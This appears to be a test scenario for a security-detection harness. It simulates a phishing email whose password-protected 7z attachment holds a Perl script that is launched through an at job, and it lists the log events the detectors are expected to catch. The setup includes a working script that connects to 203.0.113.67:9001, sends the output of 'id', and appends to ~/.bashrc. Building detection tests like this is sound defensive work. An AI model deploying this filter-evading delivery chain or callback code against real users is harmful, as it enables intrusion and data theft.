# An archive that no filter can open: the password stands in the text, the script starts from an at job.
title="Password-protected 7z attachment, the Perl script in it run from an at job"
what="The buyer copies the parts of a message into ~/orders with ripmime, unpacks the enclosed order.7z with the password that the message names, and has at(1) run the Perl script in it. The at job has no parent in common with the
unpacking. The script connects to 203.0.113.67 port 9001 and appends a line to ~/.bashrc."
host=ws3.example.org user=buyer daemons="cron sshd atd" audit_format=RAW audit_rules=audit-wide.rules

setup() {
  cat > "$base/out/order.pl" <<'P'
use IO::Socket::INET;
my $s = IO::Socket::INET->new("203.0.113.67:9001") or exit;
print $s `id`;
open my $f, ">>", "$ENV{HOME}/.bashrc";
print $f "# order 4471\n";
P
  (cd "$base/out" && 7z a -pinfected -mhe=on order.7z order.pl >/dev/null)
}
act() {
  small_talk 2
  mail_in --from po@example.net --to buyer@example.org --subject "Purchase order 4471" --text "The archive opens with: infected\n" --attach "$base/out/order.7z:application/x-7z-compressed"
  wait_log 'from=<po@example.net>'; wait_mail buyer 1
  ssh_as buyer <<'L'
mkdir orders; cd orders
ripmime -i $(grep -l 'order 4471' ../Maildir/new/*) -d .
7z x -pinfected order.7z >/dev/null; ls
%sleep 2
echo "perl $HOME/orders/order.pl" | at now
%sleep 4
L
  small_talk 1
}
truth() {
  mail_step deliver 'to=<buyer@example.org>.*status=sent' 'the message is delivered'
  exec_step parts 'ripmime -i ' 'its parts are written to a folder'
  file_step unpack 'open(at)?:write .*order.pl' 'the archive is unpacked'
  exec_step job 'at now' 'an at job is made'
  exec_step execute 'perl /home/buyer/orders/order.pl' 'atd runs the script'
  net_step beacon 'perl 203.0.113.67:9001' 'it calls out'
}
